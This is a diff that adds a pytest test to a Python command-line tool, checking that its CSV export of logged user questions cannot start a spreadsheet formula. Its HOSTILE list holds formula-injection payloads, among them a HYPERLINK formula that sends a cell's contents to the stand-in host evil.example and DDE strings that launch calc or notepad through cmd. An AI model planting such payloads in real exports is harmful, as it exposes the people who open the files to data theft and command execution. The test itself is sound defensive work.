@@ -83,3 +83,35 @@ def test_cli_text_and_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) ->
 def test_cli_without_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["unanswered", "--db", str(tmp_path / "none.sqlite3")]) == 2
     assert "no database yet" in capsys.readouterr().err
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tмой баланс",
+    "\rмой тариф",
+]
+
+
+def test_csv_cells_cannot_start_a_formula(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    db = tmp_path / "dono.sqlite3"
+
+    async def seed() -> None:
+        store = await Store.open(db)
+        await store.touch_subscriber(7, 7, "S", None, "ru")
+        for text in HOSTILE:
+            await store.log_interaction(7, text, text, "none", None, [], 0.1, "ru", 1)
+        await store.close()
+
+    asyncio.run(seed())
+    args = ["unanswered", "--db", str(db), "--kb", str(ROOT / "kb"), "--since", "30d", "--csv"]
+    assert main(args) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    cells = [cell for row in rows[1:] for cell in row[4:]]
+    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    questions = {row[4] for row in rows[1:]}
+    assert any(q.startswith("'=HYPERLINK(") for q in questions)  # kept, shown as text
